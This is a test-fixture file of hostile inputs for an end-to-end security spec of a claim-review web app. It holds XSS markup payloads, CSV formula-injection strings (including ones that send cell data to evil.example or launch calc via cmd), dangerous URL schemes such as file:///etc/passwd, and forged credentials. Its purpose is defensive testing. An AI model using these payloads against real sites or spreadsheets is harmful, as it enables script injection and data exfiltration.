// The hostile-input corpus for e2e/hostile.spec.ts. Two kinds of entry:
// - text that merely LOOKS hostile (markup, script, formulas): legitimate input, stored exactly as
//   written and made harmless wherever it is rendered or exported;
// - input that IS wrong (bad URLs, almost-numbers, wrong types, broken bytes, bad credentials):
//   refused with a clear 4xx, and nothing is stored.
// Every markup payload carries a `data-x` attribute, so "was an element injected?" is one selector.

/** Markup and script payloads. Each is ≤ 300 characters and has no surrounding whitespace. */
export const MARKUP_TEXTS: readonly string[] = [
  '<script data-x>alert(1)</script>',
  '<script data-x src="https://evil.example/x.js"></script>',
  '<img data-x src=x onerror="alert(1)">',
  '<svg data-x onload="alert(1)"></svg>',
  '"><script data-x>alert(1)</script>',
  "'><img data-x src=x onerror=alert(1)>",
  '</textarea><script data-x>alert(1)</script>',
  '</title><script data-x>alert(1)</script>',
  '<iframe data-x src="javascript:alert(1)"></iframe>',
  '<a data-x href="javascript:alert(1)">click</a>',
  '<body data-x onload=alert(1)>',
  '<details data-x open ontoggle=alert(1)>',
  '<math data-x><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<style data-x>*{display:none}</style>',
  '<object data-x data="data:text/html,<script>alert(1)</script>"></object>',
  '<input data-x autofocus onfocus=alert(1)>',
  '<form data-x action="https://evil.example"><button>Go</button></form>',
  '<meta data-x http-equiv="refresh" content="0;url=https://evil.example">',
  '<base data-x href="https://evil.example/">',
  '<template data-x><img src=x onerror=alert(1)></template>',
  '{{constructor.constructor("alert(1)")()}} <b data-x>x</b>',
  '${alert(1)} <i data-x>x</i>',
  '<!--<img data-x src="--><img data-x src=x onerror=alert(1)//">',
  '<scr<script data-x>ipt>alert(1)</script>',
  '&lt;script data-x&gt;alert(1)&lt;/script&gt; <u data-x>entity</u>',
  'javascript:alert(1) <span data-x>link-looking</span>',
  '[click](javascript:alert(1)) <em data-x>md</em>',
  '\u202Eevil\u202C <bdo data-x dir="rtl">rtl</bdo>',
];

/** CSV formula payloads (OWASP CSV injection): stored as written, neutralised in the CSV export. */
export const FORMULA_TEXTS: readonly string[] = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  '=cmd|\' /C calc\'!A0',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '=1+1',
  '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
  '+1',
  '-1',
  '@A1',
];

/** Evidence URLs that are not http(s) links to a host: refused with 400. */
export const BAD_EVIDENCE_URLS: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'javascript://example.org/%0Aalert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'ftp://example.org/file',
  'blob:https://example.org/1234',
  'mailto:editor@example.org',
  'about:blank',
  '//evil.example/x',
  '/relative/path',
  'http://',
  'https:',
  'not a url',
  '',
  `https://example.org/${'a'.repeat(2100)}`,
];

/**
 * Path segments that must never resolve to claim 5 (or any claim): almost-numbers and malformed
 * percent-encoding. Used raw in the URL.
 */
export const ALMOST_IDS: readonly string[] = [
  '5abc',
  '5.5',
  '5,6',
  '5.0',
  '05',
  '+5',
  '-5',
  '0',
  '5e0',
  '0x5',
  '5%20',
  '%205',
  '5%00',
  '5%2F6',
  '5;6',
  'Infinity',
  'NaN',
  '99999999999999999999',
  '%FF',
  '%C0%AF',
  '%E0%A4%A',
  '%',
  '5%',
];

/** JSON bodies of the wrong shape for PATCH /api/claims/<id>/review; `v` is the current version. */
export const WRONG_BODIES: readonly { label: string; body: (v: number) => unknown }[] = [
  { label: 'status is a number', body: (v) => ({ status: 1, version: v }) },
  { label: 'status is an array', body: (v) => ({ status: ['needs_source'], version: v }) },
  { label: 'status unknown', body: (v) => ({ status: 'approved', version: v }) },
  { label: 'status missing', body: (v) => ({ note: 'x', version: v }) },
  { label: 'version missing', body: () => ({ status: 'needs_source' }) },
  { label: 'version fractional', body: (v) => ({ status: 'needs_source', version: v + 0.5 }) },
  { label: 'version negative', body: () => ({ status: 'needs_source', version: -1 }) },
  { label: 'version null', body: () => ({ status: 'needs_source', version: null }) },
  { label: 'version boolean', body: () => ({ status: 'needs_source', version: true }) },
  { label: 'version almost-number string', body: (v) => ({ status: 'needs_source', version: `${v}abc` }) },
  { label: 'version unsafe integer', body: () => ({ status: 'needs_source', version: 2 ** 60 }) },
  { label: 'note is a number', body: (v) => ({ status: 'needs_source', note: 123, version: v }) },
  { label: 'note is an object', body: (v) => ({ status: 'needs_source', note: { toString: 'x' }, version: v }) },
  { label: 'note over 5,000 characters', body: (v) => ({ status: 'needs_source', note: 'x'.repeat(5001), version: v }) },
  { label: 'note with a NUL character', body: (v) => ({ status: 'needs_source', note: 'a\u0000b', version: v }) },
  { label: 'note with an escape character', body: (v) => ({ status: 'needs_source', note: 'a\u001b[31mred', version: v }) },
  { label: 'evidence is a string', body: (v) => ({ status: 'needs_source', evidence: 'https://example.org', version: v }) },
  { label: 'evidence item empty', body: (v) => ({ status: 'needs_source', evidence: [{}], version: v }) },
  { label: 'evidence item wrong types', body: (v) => ({ status: 'needs_source', evidence: [{ url: 1, title: 2 }], version: v }) },
  {
    label: 'evidence title over 300 characters',
    body: (v) => ({ status: 'needs_source', evidence: [{ url: 'https://example.org/', title: 't'.repeat(301) }], version: v }),
  },
  {
    label: 'evidence title with NUL',
    body: (v) => ({ status: 'needs_source', evidence: [{ url: 'https://example.org/', title: 'a\u0000b' }], version: v }),
  },
  {
    label: '21 evidence links at once',
    body: (v) => ({
      status: 'needs_source',
      evidence: Array.from({ length: 21 }, (_, i) => ({ url: `https://example.org/${i}`, title: `t${i}` })),
      version: v,
    }),
  },
  { label: 'Verified without evidence', body: (v) => ({ status: 'verified', version: v }) },
  { label: 'Disputed without a note', body: (v) => ({ status: 'disputed', note: '   ', version: v }) },
  { label: 'body is null', body: () => null },
  { label: 'body is an array', body: (v) => [{ status: 'needs_source', version: v }] },
  { label: 'body is a string', body: () => 'needs_source' },
  { label: 'body is a number', body: () => 42 },
];

/** Raw bodies that are not valid UTF-8 JSON, or are too large: 400 or 413. */
export const RAW_BODIES: readonly { label: string; bytes: (v: number) => Buffer }[] = [
  { label: 'invalid UTF-8 (FF FE)', bytes: (v) => Buffer.concat([Buffer.from('{"status":"needs_source","note":"'), Buffer.from([0xff, 0xfe]), Buffer.from(`","version":${v}}`)]) },
  { label: 'overlong "/" (C0 AF)', bytes: (v) => Buffer.concat([Buffer.from('{"status":"needs_source","note":"'), Buffer.from([0xc0, 0xaf]), Buffer.from(`","version":${v}}`)]) },
  { label: 'lone surrogate (ED A0 80)', bytes: (v) => Buffer.concat([Buffer.from('{"status":"needs_source","note":"'), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from(`","version":${v}}`)]) },
  { label: 'truncated sequence (E2 82)', bytes: (v) => Buffer.concat([Buffer.from('{"status":"needs_source","note":"'), Buffer.from([0xe2, 0x82]), Buffer.from(`","version":${v}}`)]) },
  { label: 'raw NUL inside a string', bytes: (v) => Buffer.from(`{"status":"needs_source","note":"a\u0000b","version":${v}}`, 'utf8') },
  { label: 'raw NUL before the JSON', bytes: (v) => Buffer.from(`\u0000{"status":"needs_source","version":${v}}`, 'utf8') },
  { label: 'UTF-16 encoded JSON', bytes: (v) => Buffer.from(`{"status":"needs_source","version":${v}}`, 'utf16le') },
  { label: 'truncated JSON', bytes: () => Buffer.from('{"status":"needs_source","version":') },
  { label: 'empty body', bytes: () => Buffer.alloc(0) },
  { label: 'nesting 100,000 deep', bytes: () => Buffer.from(`${'['.repeat(100_000)}${']'.repeat(100_000)}`) },
  { label: 'body over 256 KB', bytes: (v) => Buffer.from(JSON.stringify({ status: 'needs_source', note: 'x'.repeat(300_000), version: v })) },
];

/** Credentials that must not authenticate: 401 (an unusable credential is never a 500). */
export const BAD_CREDENTIALS: readonly { label: string; headers: Record<string, string> }[] = [
  { label: 'no credentials', headers: {} },
  { label: 'forged session cookie', headers: { cookie: 'better-auth.session_token=forged.c2lnbmF0dXJl' } },
  { label: 'session cookie without signature', headers: { cookie: 'better-auth.session_token=abcdef' } },
  { label: 'forged token', headers: { authorization: 'Bearer qd_forgedforgedforgedforgedforgedfo' } },
  { label: 'empty bearer', headers: { authorization: 'Bearer ' } },
  { label: 'basic auth', headers: { authorization: 'Basic YWRtaW46YWRtaW4=' } },
  { label: 'token with a NUL-looking suffix', headers: { authorization: 'Bearer qd_x%00' } },
  { label: 'two tokens', headers: { authorization: 'Bearer qd_a qd_b' } },
];

/** Article files the import must refuse; the database stays as it was. */
export const BAD_ARTICLE_FILES: readonly { label: string; name: string; bytes: () => Buffer }[] = [
  { label: 'invalid UTF-8', name: 'bad-utf8.txt', bytes: () => Buffer.concat([Buffer.from('"Kami siap," kata Budi. '), Buffer.from([0xff, 0xfe, 0xc0, 0xaf])]) },
  { label: 'NUL bytes (binary)', name: 'nul.txt', bytes: () => Buffer.from('"Kami siap," kata Budi.\u0000\u0000\u0000', 'utf8') },
  { label: 'over 1 MB', name: 'huge.txt', bytes: () => Buffer.from(`"Kami siap," kata Budi. ${'Lorem ipsum dolor sit amet. '.repeat(40_000)}`) },
  { label: 'empty', name: 'empty.txt', bytes: () => Buffer.alloc(0) },
];

/** How many hostile inputs the corpus holds (the spec asserts at least 100). */
export function corpusSize(): number {
  return (
    MARKUP_TEXTS.length +
    FORMULA_TEXTS.length +
    BAD_EVIDENCE_URLS.length +
    ALMOST_IDS.length +
    WRONG_BODIES.length +
    RAW_BODIES.length +
    BAD_CREDENTIALS.length +
    BAD_ARTICLE_FILES.length
  );
}

/**
 * Characters no stored text field accepts (lib/text-rule.ts), each placed inside otherwise valid
 * text. `argv: false`: cannot be passed on a command line (NUL ends a C string; a lone surrogate
 * has no UTF-8 form), so the command-line doors are tried with the others.
 */
export const BAD_TEXT_CHARACTERS: readonly { kind: string; char: string; argv: boolean; multilineOk?: boolean }[] = [
  { kind: 'NUL', char: '\u0000', argv: false },
  { kind: 'bell', char: '\u0007', argv: true },
  { kind: 'backspace', char: '\u0008', argv: true },
  { kind: 'escape (terminal colour)', char: '\u001b[31m', argv: true },
  { kind: 'form feed', char: '\u000c', argv: true },
  { kind: 'DEL', char: '\u007f', argv: true },
  { kind: 'C1 next-line', char: '\u0085', argv: true },
  { kind: 'lone high surrogate', char: '\ud800', argv: false },
  { kind: 'lone low surrogate', char: '\udfff', argv: false },
  { kind: 'tab', char: '\t', argv: true, multilineOk: true },
  { kind: 'line feed', char: '\n', argv: true, multilineOk: true },
];
